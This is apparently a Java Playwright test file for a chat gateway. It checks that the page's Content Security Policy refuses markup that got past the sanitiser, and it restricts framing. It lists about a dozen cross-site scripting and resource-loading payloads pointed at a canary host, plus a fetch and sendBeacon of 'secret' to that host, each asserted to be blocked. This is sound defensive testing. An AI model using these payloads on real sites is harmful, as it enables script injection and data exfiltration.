package chatgateway.e2e;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertAll;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;

import chatgateway.demo.dify.DemoDify.DifyVersion;
import chatgateway.demo.dify.DemoDify.Mode;
import chatgateway.support.Eventually;
import chatgateway.support.browser.ChatView;
import chatgateway.support.browser.Chromium;
import chatgateway.support.browser.PageTest;
import chatgateway.support.browser.ScriptedGateway;
import chatgateway.support.browser.ThirdPartyServer;
import com.microsoft.playwright.Page;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;

/**
 * The content policy is the second wall: markup that got past the sanitiser still runs and loads nothing
 * (docs/threats.md#t28-scripts-in-answers, #t30-the-wrong-site-frames-the-chat).
 */
@PageTest
@Tag("T28")
@Tag("T29")
@Tag("T30")
record PolicyTest(Chromium chromium, ScriptedGateway gateway, ThirdPartyServer canary) {
    /** Puts the markup where an answer would be, as a broken sanitiser would, and waits for the browser's refusal. */
    private static final String SMUGGLE = """
            (html) => new Promise((done) => {
              document.addEventListener('securitypolicyviolation', (event) => done(event.effectiveDirective), { once: true });
              setTimeout(() => done('nothing was refused'), 20_000);
              document.querySelector('#log').replaceChildren();
              const range = document.createRange();
              range.selectNode(document.querySelector('#log'));
              // Unlike innerHTML, this also starts the scripts in it.
              document.querySelector('#log').append(range.createContextualFragment(html));
              document.querySelector('#log form')?.requestSubmit();
              document.querySelector('#log svg[onload]')?.dispatchEvent(new Event('load'));
              document.querySelector('#log a')?.click();
            })""";

    /** @param directive what refuses it */
    private record Smuggled(String html, String directive) {}

    private static final List<Smuggled> SMUGGLED = List.of(
            new Smuggled("<script>window.__xss = 1</script>", "script-src-elem"),
            new Smuggled("<script src='CANARY/x.js'></script>", "script-src-elem"),
            new Smuggled("<script type='module'>window.__xss = 1</script>", "script-src-elem"),
            new Smuggled("<script src='data:text/javascript,window.__xss=1'></script>", "script-src-elem"),
            new Smuggled("<img src='data:,' onerror='window.__xss = 1'>", "script-src-attr"),
            new Smuggled("<svg onload='window.__xss = 1'></svg>", "script-src-attr"),
            new Smuggled("<a href='javascript:void(window.__xss = 1)'>x</a>", "script-src-elem"),
            new Smuggled("<img src='CANARY/i.png'>", "img-src"),
            new Smuggled("<link rel='stylesheet' href='CANARY/s.css'>", "style-src-elem"),
            new Smuggled("<style>body { background: url(CANARY/b.png) }</style>", "style-src-elem"),
            new Smuggled("<p style='background: url(CANARY/b.png)'>x</p>", "style-src-attr"),
            new Smuggled("<video src='CANARY/v.mp4'></video>", "media-src"),
            new Smuggled("<object data='CANARY/o'></object>", "object-src"),
            new Smuggled("<iframe src='CANARY/f'></iframe>", "frame-src"),
            new Smuggled("<form action='CANARY/take'><input name='q'></form>", "form-action"),
            new Smuggled("<base href='CANARY/'>", "base-uri"));

    @Test
    void what_got_past_the_sanitiser_is_refused() {
        chromium.expectErrors(SMUGGLED.size(), "Content Security Policy");
        var page = chat();

        assertAll(SMUGGLED.stream().map(smuggled -> () -> {
            var html = smuggled.html().replace("CANARY", canary.url());
            assertEquals(smuggled.directive(), page.evaluate(SMUGGLE, html), html);
        }));

        assertNull(page.evaluate("() => window.__xss"));
        assertEquals(List.of(), canary.requests());
    }

    @Test
    void a_script_that_runs_all_the_same_can_reach_no_other_server() {
        chromium.expectErrors(3, "Content Security Policy");
        var page = chat();

        assertEquals("TypeError", page.evaluate("(url) => fetch(url).catch((error) => error.name)", canary.url()));
        page.evaluate("(url) => navigator.sendBeacon(url, 'secret')", canary.url());

        assertEquals(List.of(), canary.requests());
    }

    /** From a timer: what the debugger itself evaluates is exempt. */
    @Test
    void text_does_not_become_code() {
        var refusal = chat().evaluate("""
                () => new Promise((done) => setTimeout(() => {
                  try {
                    done(eval('1'));
                  } catch (error) {
                    done(error.name);
                  }
                }))""");

        assertEquals("EvalError", refusal);
    }

    /** With a referrer, another site gets a page that explains the refusal: {@link FramingTest}. */
    @Test
    void a_frame_of_a_stranger_that_sends_no_referer_stays_empty() throws InterruptedException {
        chromium.expectErrors(1, "frame-ancestors");
        try (var strict = ScriptedGateway.start(
                DifyVersion.V1_12, Mode.CHAT, Map.of("EMBED_ORIGINS", "https://cointutor.example"))) {
            var page = chromium.open(canary.url());
            page.setContent("<iframe referrerpolicy='no-referrer' src='" + strict.chatUrl("minji") + "'></iframe>");

            Eventually.that(
                    "the frame shows the browser's refusal",
                    () -> page.frames().stream().anyMatch(frame -> frame.url().startsWith("chrome-error:")));
            assertThat(page.frameLocator("iframe").locator("#query")).hasCount(0);
        }
    }

    private Page chat() {
        var page = chromium.open(gateway.chatUrl("minji"));
        assertThat(ChatView.of(page).input()).isVisible();
        return page;
    }
}
